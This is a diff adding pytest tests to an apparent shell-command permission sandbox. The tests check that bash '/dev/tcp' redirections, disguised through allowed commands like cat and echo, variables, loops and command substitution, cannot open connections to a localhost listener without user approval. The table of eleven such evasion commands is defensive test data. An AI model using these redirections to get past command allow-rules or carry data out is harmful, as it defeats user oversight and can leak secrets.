@@ -385,6 +385,97 @@ def test_there_are_enough_attacks() -> None:
     assert len(ATTACKS) >= 100
 
 
+# --------------------------------------------------------------------------- bash's own network
+# A redirection from /dev/tcp/HOST/PORT (or /dev/udp/…) is not a file: bash itself opens a
+# connection, whatever program the rule allowed (the host name alone can carry data out
+# through DNS). A listener on 127.0.0.1 stands for the other machine: it creates the
+# marker when anything connects.
+
+
+@pytest.fixture
+def listener(world: World):
+    import socket
+    import threading
+
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(0.2)
+    stop = threading.Event()
+
+    def serve() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                continue
+            world.marker.touch()
+            conn.close()
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield server.getsockname()[1]
+    stop.set()
+    thread.join(5)
+    server.close()
+
+
+NETWORK_ATTACKS: dict[str, tuple[tuple[str, ...] | str, list[str]]] = {
+    "cat-from-dev-tcp": (("cat *",), ["cat < /dev/tcp/127.0.0.1/{PORT}"]),
+    "echo-with-input-from-dev-tcp": (("echo *",), ["echo hi < /dev/tcp/127.0.0.1/{PORT}"]),
+    "ls-fd-3-from-dev-tcp": (("ls *",), ["ls 3</dev/tcp/127.0.0.1/{PORT}"]),
+    "read-write-redirect": (("cat *",), ["cat <> /dev/tcp/127.0.0.1/{PORT}"]),
+    "write-to-dev-tcp": (("echo *",), ["echo hi > /dev/tcp/127.0.0.1/{PORT}"]),
+    "dev-tcp-named-by-a-variable": (("cat *",), ["+t=/dev/tcp/127.0.0.1/{PORT}", 'cat < "$t"']),
+    "dev-tcp-host-from-a-command": (
+        ("cat *", "echo *"),
+        ["cat < /dev/tcp/$(echo 127.0.0.1)/{PORT}"],
+    ),
+    "dev-tcp-on-a-loop": (
+        ("echo *", "read *"),
+        ["while read -r l; do echo $l; done < /dev/tcp/127.0.0.1/{PORT}"],
+    ),
+    "dev-tcp-on-a-group": (("echo *",), ["{ echo hi; } < /dev/tcp/127.0.0.1/{PORT}"]),
+    "dev-tcp-in-auto-mode": ("auto", ["cat < /dev/tcp/127.0.0.1/{PORT}"]),
+    "dev-tcp-after-a-literal-slash": (("cat *",), ['+h=127.0.0.1', 'cat < /dev/tcp/"$h"/{PORT}']),
+}
+
+
+@pytest.mark.parametrize("name", sorted(NETWORK_ATTACKS))
+def test_bash_network_redirection_needs_the_user(world: World, listener: int, name: str) -> None:
+    rules, steps = NETWORK_ATTACKS[name]
+    steps = [s.replace("{PORT}", str(listener)) for s in steps]
+    if rules == "auto":
+        play(world, steps, mode="auto")
+    else:
+        assert isinstance(rules, tuple)
+        play(world, steps, allow=rules)
+    assert_no_marker(world)
+    assert world.asked, "the connection was made without any question"
+
+
+def test_the_listener_has_teeth(world: World, listener: int) -> None:
+    """Approved, the same redirection does connect: the marker is the connection."""
+    play(world, [f"+cat < /dev/tcp/127.0.0.1/{listener}"])
+    assert world.marker.exists()
+
+
+@pytest.mark.parametrize(
+    ("steps", "expected"),
+    [
+        (["cat < f"], "hello a"),
+        (["+n=f", "cat < ./$n"], "hello a"),
+        (["while read -r l; do echo $l; done < f"], "hello a"),
+        # bash matches the name literally: only "/dev/tcp/…" itself connects
+        (["cat < /dev/./tcp/127.0.0.1/1 2>&1 || echo refused"], "refused"),
+    ],
+)
+def test_reading_a_file_by_redirection_still_runs(
+    world: World, steps: list[str], expected: str
+) -> None:
+    out = play(world, steps, allow=("cat *", "echo *", "read *"))
+    assert out[-1][1] and expected in out[-1][2]
+    assert world.asked == [steps[0][1:]] if steps[0].startswith("+") else world.asked == []
+
+
 # --------------------------------------------------------------------------- §4 project trust
 
 
